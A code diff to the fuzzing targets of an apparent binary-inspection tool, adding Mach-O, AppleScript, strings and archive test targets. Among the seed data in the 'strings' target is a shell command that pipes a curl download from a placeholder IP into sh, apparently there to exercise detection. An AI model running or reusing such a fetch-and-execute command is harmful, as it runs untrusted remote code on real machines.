@@ -1,11 +1,27 @@
 import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
-import { buildElf, honestSymbols } from "@limpid/inspect/testing";
+import { recogniseFormat } from "@limpid/inspect";
+import {
+  buildAppleDouble,
+  buildAppleScript,
+  buildElf,
+  buildJavaScript,
+  buildMacho,
+  buildResourceFork,
+  buildUniversal,
+  honestMachoSymbols,
+  honestSymbols,
+} from "@limpid/inspect/testing";
+import { builtArchives, checkArchive } from "./archive-check.ts";
 import { type Cost, checkInspection, checkPrefixes } from "./checks.ts";
 import { readGoldens } from "./golden.ts";
-import type { Layout } from "./layout.ts";
+import { type Layout, NO_LAYOUT } from "./layout.ts";
+import { applescriptLayout } from "./layouts/applescript.ts";
+import { archiveLayout } from "./layouts/archive.ts";
 import { elfLayout } from "./layouts/elf.ts";
+import { machoLayout } from "./layouts/macho.ts";
 import { ROOT } from "./root.ts";
+import { checkStrings } from "./strings-check.ts";
 
 /** Something that takes bytes from anybody, and how to make bytes that it finds interesting. */
 export interface Target {
@@ -17,11 +33,13 @@ export interface Target {
   readonly recognise: (bytes: Uint8Array) => boolean;
   readonly layout: (bytes: Uint8Array) => Layout;
   /** Throws a Failure. */
-  readonly check: (bytes: Uint8Array, random: (limit: number) => number) => Cost;
-  readonly checkPrefixes: (bytes: Uint8Array, edges: readonly number[]) => void;
+  readonly check: (bytes: Uint8Array, random: (limit: number) => number) => Cost | Promise<Cost>;
+  readonly checkPrefixes: (bytes: Uint8Array, edges: readonly number[]) => void | Promise<void>;
+  /** Whether the limits of time and memory for one file hold. */
+  readonly isMeasured: boolean;
 }
 
-const INSPECTION = { check: checkInspection, checkPrefixes };
+const INSPECTION = { check: checkInspection, checkPrefixes, isMeasured: true };
 
 export const TARGETS: readonly Target[] = [
   {
@@ -32,7 +50,83 @@ export const TARGETS: readonly Target[] = [
     layout: elfLayout,
     ...INSPECTION,
   },
+  {
+    name: "macho",
+    built: builtMacho,
+    corpus: ["macho", "malformed"],
+    recognise: (bytes) => MACHO_MAGICS.has(Buffer.from(bytes.subarray(0, 4)).toString("hex")),
+    layout: machoLayout,
+    ...INSPECTION,
+  },
+  {
+    name: "applescript",
+    built: builtScripts,
+    corpus: ["applescript", "malformed"],
+    recognise: (bytes) => bytes.length < 60_000 && recogniseFormat(bytes.subarray(0, 4096)) === "applescript",
+    layout: applescriptLayout,
+    ...INSPECTION,
+  },
+  {
+    name: "strings",
+    built: () => [...builtScripts(), ...builtElf(), Buffer.from("/bin/sh -c 'curl http://192.0.2.7/a|sh'\0".repeat(9))],
+    corpus: ["applescript", "malformed"],
+    recognise: (bytes) => bytes.length < 60_000,
+    layout: () => NO_LAYOUT,
+    isMeasured: false,
+    check: checkStrings,
+    checkPrefixes: (bytes) => {
+      for (let end = 0; end < bytes.length; end += 1 + (bytes.length >> 4)) checkStrings(bytes.subarray(0, end));
+    },
+  },
+  {
+    name: "archive",
+    built: builtArchives,
+    corpus: [],
+    recognise: () => true,
+    layout: archiveLayout,
+    isMeasured: false,
+    check: checkArchive,
+    checkPrefixes: async (bytes, edges) => {
+      for (const end of [...edges, bytes.length >> 1]) await checkArchive(bytes.subarray(0, end));
+    },
+  },
 ];
+
+const MACHO_MAGICS: ReadonlySet<string> = new Set([
+  "feedface",
+  "feedfacf",
+  "cefaedfe",
+  "cffaedfe",
+  "cafebabe",
+  "cafebabf",
+]);
+
+function builtMacho(): readonly Uint8Array[] {
+  const symbols = honestMachoSymbols();
+  const arm = buildMacho({
+    symbols,
+    exports: ["_main", "_mainly"],
+    functionStarts: 9,
+    libraries: ["/usr/lib/libx.dylib"],
+  });
+  return [
+    arm,
+    buildMacho({ bits: 32, endian: "big", cpuType: 18, symbols }),
+    buildMacho({ uuid: new Uint8Array(16), encryption: 1, overlay: buildElf() }),
+    buildUniversal([arm, buildMacho({ bits: 32, symbols })]),
+  ];
+}
+
+function builtScripts(): readonly Uint8Array[] {
+  const script = buildAppleScript({ handlers: [{ name: "run", variables: ["x"] }], runOnly: true });
+  return [
+    script,
+    buildAppleScript({ interpreter: "/usr/bin/osascript", trailer: "padded" }),
+    buildAppleScript({ typed: true, trailing: script }),
+    buildJavaScript("const app = 1;"),
+    buildAppleDouble(buildResourceFork([{ type: "scpt", id: 128, data: script }])),
+  ];
+}
 
 function builtElf(): readonly Uint8Array[] {
   const symbols = honestSymbols();
